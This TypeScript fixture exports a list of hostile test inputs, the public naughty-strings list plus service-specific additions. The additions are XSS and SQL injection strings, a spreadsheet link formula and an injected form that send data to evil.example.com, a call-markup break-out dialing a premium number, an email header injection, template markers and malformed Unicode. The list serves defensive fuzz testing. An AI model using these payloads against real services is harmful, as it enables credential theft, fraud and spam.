import { publicData } from './public-data.ts'

/** The big list of naughty strings (minimaxir, MIT) where it is to be had, and some that aim at this service. */
export const NAUGHTY_STRINGS: readonly string[] = [
  ...JSON.parse(publicData('blns/blns.json', '[]')),
  '',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  "' OR 1=1 --",
  '=HYPERLINK("https://evil.example.com")',
  '\u200B\uFEFF\u0000\u001B[31m',
  '👩‍👧‍👦 Ñandú Żółć 王 عربى',
  '</Say></Gather><Dial>+19005550143</Dial>',
  '"><form action="https://evil.example.com"><input name=pin>',
  '{{ pin }} {% include "x" %} $t(common.problem) {{missing}}',
  'Willow\r\nBcc: everyone@example.com\r\n\r\nHello',
  'Willow\n@evil.example.com #000000',
  '\u202Eegnellahc\u2066\uD800\uFFFE',
  'A'.repeat(100_000),
]
